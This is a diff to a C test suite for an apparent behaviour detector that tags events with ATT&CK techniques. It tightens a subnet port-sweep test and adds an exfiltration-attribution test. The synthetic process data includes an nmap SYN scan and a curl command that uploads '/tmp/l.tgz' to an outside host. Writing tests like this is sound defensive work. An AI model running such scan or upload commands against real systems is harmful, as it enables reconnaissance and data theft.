@@ -181,20 +181,25 @@ SC(t1046_scanner_and_fanout)
 				    "nmap -sS 10.0.0.0/24", 0);
 	struct synth_proc py;
 	char ip[32];
-	int i, seen = 0;
+	int i, seen = 0, at = 0;
 
 	EXPECT_TRUE(named(&v, "T1046"));
-	/* an unknown program sweeping port 22 across the subnet */
+	/* an unknown program sweeping port 22 across the subnet: named when
+	 * the sweep reaches 10 hosts, not again for each further host */
 	synth_spawn(&s->w, &s->sh, &py, "/usr/bin/python3", "python3 sweep.py", 0);
-	for (i = 1; i <= 12; i++) {
+	for (i = 1; i <= 15; i++) {
 		snprintf(ip, sizeof(ip), "10.0.0.%d", 100 + i);
 		synth_net(&s->w.r, ESPY_EV_CONNECT, s->w.ts, &py, "10.0.0.2",
 			  40000 + i, ip, 22, -111, 0);
 		synth_feed(&s->w, 100);
-		seen |= synth_has_tech(&s->w.last, "T1046");
+		if (synth_has_tech(&s->w.last, "T1046")) {
+			EXPECT_TRUE(named(&s->w.last, "T1046"));
+			seen++;
+			at = i;
+		}
 	}
-	EXPECT_TRUE(seen);
-	EXPECT_TRUE(named(&s->w.last, "T1046"));
+	EXPECT_EQ(1, seen);
+	EXPECT_EQ(10, at);
 }
 
 SC(t1083_file_discovery)
@@ -342,6 +347,27 @@ SC(t1048_volume_out)
 		  "203.0.113.5", 443, 0, 4096);
 	synth_feed(&s->w, 1);
 	EXPECT_FALSE(synth_has_tech(&s->w.last, "T1048"));
+}
+
+/* The kernel closes most TCP connections in softirq, with no task: the
+ * bytes are the connecting process's, found by the socket cookie. */
+SC(t1048_taskless_close_is_attributed)
+{
+	struct synth_proc c;
+	struct espy_net *n = (struct espy_net *)s->w.r.b;
+
+	synth_spawn(&s->w, &s->sh, &c, "/usr/bin/curl",
+		    "curl --data-binary @/tmp/l.tgz http://203.0.113.5/", 0);
+	synth_net(&s->w.r, ESPY_EV_CONNECT, s->w.ts, &c, "10.0.0.2", 50200,
+		  "203.0.113.5", 80, 0, 0);
+	n->sock_cookie = 77;
+	synth_feed(&s->w, 1);
+	synth_net(&s->w.r, ESPY_EV_TCP_CLOSE, s->w.ts, NULL, "10.0.0.2", 50200,
+		  "203.0.113.5", 80, 0, 40ULL << 20);
+	n->sock_cookie = 77;
+	synth_feed(&s->w, 1);
+	EXPECT_TRUE(named(&s->w.last, "T1048"));
+	EXPECT_NE(0, s->w.last.session_id);
 }
 
 SC(t1048_003_dns)
